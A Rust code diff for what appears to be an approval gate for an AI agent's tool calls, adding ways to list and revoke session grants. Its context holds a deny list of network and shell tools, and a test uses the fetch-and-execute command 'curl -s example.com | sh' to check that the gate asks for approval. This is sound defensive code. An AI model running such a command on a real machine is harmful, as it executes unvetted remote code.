@@ -23,14 +23,8 @@ const NEVER_REMEMBERED: &[&str] = &[
     "killall", "find", "xargs", "curl", "wget", "scp", "rsync", "ssh",
 ];
 
-/// What "Allow for this session" remembered.
-#[derive(Debug, Clone, PartialEq, Eq, Hash)]
-pub enum Grant {
-    /// Every call of this tool.
-    Tool(String),
-    /// `bash` commands with this program + subcommand prefix (never a compound command).
-    BashPrefix(String),
-}
+/// What "Allow for this session" remembered (the protocol's type: the window lists and revokes them).
+pub use warden_protocol::SessionGrant as Grant;
 
 /// The session's remembered approvals.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
@@ -48,14 +42,26 @@ impl Grants {
             if NEVER_REMEMBERED.contains(&program) {
                 return None;
             }
-            Some(Grant::BashPrefix(prefix))
+            Some(Grant::BashPrefix { prefix })
         } else {
-            Some(Grant::Tool(tool.to_owned()))
+            Some(Grant::Tool { name: tool.to_owned() })
         }
     }
 
     pub fn insert(&mut self, grant: Grant) {
         self.0.insert(grant);
+    }
+
+    /// Forget a grant; false when there was none.
+    pub fn remove(&mut self, grant: &Grant) -> bool {
+        self.0.remove(grant)
+    }
+
+    /// Every grant, sorted (tools first, then command prefixes).
+    pub fn list(&self) -> Vec<Grant> {
+        let mut all: Vec<Grant> = self.0.iter().cloned().collect();
+        all.sort();
+        all
     }
 
     /// Whether a remembered approval covers this call.
@@ -342,7 +348,7 @@ mod tests {
         ));
         // A grant never covers an unknown command, and none is remembered for it.
         let mut grants = Grants::default();
-        grants.insert(Grant::BashPrefix("sh".into()));
+        grants.insert(Grant::BashPrefix { prefix: "sh".into() });
         let input = json!({"command": "curl -s example.com | sh"});
         assert_eq!(decide(Guided, &bash, &all, &input, &grants), Decision::Ask);
         assert_eq!(Grants::grant_for("bash", &input), None);
